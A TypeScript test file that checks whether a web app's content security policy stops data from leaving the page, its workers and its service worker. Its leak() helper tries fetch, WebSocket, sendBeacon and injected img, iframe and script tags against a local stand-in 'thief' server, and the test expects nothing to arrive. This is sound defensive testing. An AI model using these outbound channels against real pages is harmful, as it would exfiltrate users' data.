import { createServer, type Server } from 'node:http';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, shown, startHarness } from './harness';

let h: Harness;
let thief: Server;
let thiefAt: string;
const arrived: string[] = [];
beforeAll(async () => {
  h = await startHarness();
  thief = createServer((request, response) => {
    arrived.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('thanks');
  });
  thief.on('upgrade', (request, socket) => {
    arrived.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => thief.listen(0, '127.0.0.1', done));
  const address = thief.address();
  thiefAt = `127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
}, 240_000);
afterAll(async () => {
  thief?.close();
  await h?.close();
});

/** Tries to send something out by every way a script has, and waits until each has failed or gone through. */
async function leak(at: string): Promise<void> {
  const ways: Promise<unknown>[] = [fetch(`http://${at}/fetch`).catch(() => undefined)];
  ways.push(
    new Promise((done) => {
      try {
        const socket = new WebSocket(`ws://${at}/socket`);
        socket.onerror = done;
        socket.onopen = done;
      } catch (error) {
        done(error);
      }
    }),
  );
  if (typeof document !== 'undefined') {
    navigator.sendBeacon(`http://${at}/beacon`, 'x');
    for (const tag of ['img', 'iframe', 'script'] as const) {
      ways.push(
        new Promise((done) => {
          const element = document.createElement(tag);
          element.onload = done;
          element.onerror = done;
          document.addEventListener('securitypolicyviolation', (e) => {
            if (e.blockedURI.startsWith(`http://${at}`) && e.blockedURI.endsWith(`/${tag}`)) done(e);
          });
          element.src = `http://${at}/${tag}`;
          document.body.append(element);
          setTimeout(done, 2000);
        }),
      );
    }
  }
  await Promise.all(ways);
}

const wait = (page: Page): Promise<unknown> => page.getByRole('img', { name: /Timeline of/ }).waitFor();

describe('the policy', () => {
  it('holds in the page, in every worker and in the service worker', async () => {
    const { page, context } = await h.open('#/sample/sample-roadside', undefined, 'ordinary');
    await wait(page);
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await page.evaluate(leak, thiefAt);
    const workers: Worker[] = [...page.workers(), ...context.serviceWorkers()];
    expect(page.workers().length).toBeGreaterThan(0);
    expect(context.serviceWorkers().length).toBeGreaterThan(0);
    for (const worker of workers) await worker.evaluate(leak, thiefAt);
    // Once more from the offline copy, whose files bring their headers from the store of the service worker.
    await page.reload();
    await wait(page);
    for (const worker of page.workers()) await worker.evaluate(leak, thiefAt);
    await page.evaluate(leak, thiefAt);
    expect(arrived).toEqual([]);
    expect(await page.evaluate(() => typeof RTCPeerConnection)).toBe('undefined');
    await context.close();
  }, 120_000);

  it('is missed aloud where the host does not send it, and not where it does', async () => {
    const { page, context } = await h.open('#/cases');
    await page.getByRole('heading', { name: 'Samples' }).waitFor();
    const missed = page.getByText('This host does not send Stopline’s policy');
    await page.waitForLoadState('networkidle');
    expect(await missed.count()).toBe(0);
    await context.close();
    const bare = await h.browser.newContext({ serviceWorkers: 'block' });
    await bare.route(/index\.html\?headers=/, (route) =>
      route.fulfill({ status: 200, headers: { 'content-type': 'text/html' } }),
    );
    const other = await bare.newPage();
    await other.goto(`${h.url}#/cases`);
    await shown(other, 'This host does not send Stopline’s policy');
    await bare.close();
  }, 60_000);
});
